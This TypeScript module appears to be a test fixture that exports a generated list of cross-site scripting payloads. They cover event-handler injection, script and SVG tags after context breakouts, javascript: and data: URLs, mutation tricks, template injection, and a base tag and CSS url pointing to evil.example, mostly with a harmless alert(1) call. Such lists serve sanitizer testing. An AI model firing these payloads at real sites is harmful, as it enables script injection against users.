/** What becomes markup or a script where a page does not treat it as text, one for each way to do it. */

const CALL = 'alert(1)'

const EVENTS = [
  'load',
  'error',
  'toggle',
  'focus',
  'mouseover',
  'animationstart',
  'pageshow',
  'click',
  'begin',
  'wheel',
]
const TAGS = ['img', 'svg', 'body', 'video', 'details', 'input', 'iframe', 'object', 'marquee', 'math']
/** What may stand before markup: the ends of an attribute, of an element, of a comment, of a script. */
const ENDS = ['"', "'", '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>']

export const XSS_PAYLOADS: readonly string[] = [
  ...TAGS.map((tag, n) => `<${tag} src=x on${EVENTS[n]}=${CALL} autofocus open tabindex=1>`),
  ...EVENTS.map((event) => `x" on${event}="${CALL}" style="animation: a 1s" autofocus="`),
  ...ENDS.map((end) => `${end}<script>${CALL}</script>`),
  ...ENDS.map((end) => `${end}<svg><script>${CALL}</script></svg>`),
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `<a href="javascript:${CALL}">press</a>`,
  `<form action="javascript:${CALL}"><button autofocus>press</button></form>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<base href="//evil.example/">`,
  `<link rel="stylesheet" href="data:text/css,*{background:url(//evil.example)}">`,
  `<style>@import 'javascript:${CALL}'</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<math></form><form><style></math><img src=x onerror=${CALL}>`,
  `<template><script>${CALL}</script></template>`,
  `<svg><animate attributeName=href values="javascript:${CALL}" />`,
  `<svg><use href="data:image/svg+xml,<svg onload=${CALL}>"/>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  encodeURIComponent(`<script>${CALL}</script>`),
  `{{constructor.constructor('${CALL}')()}}`,
]
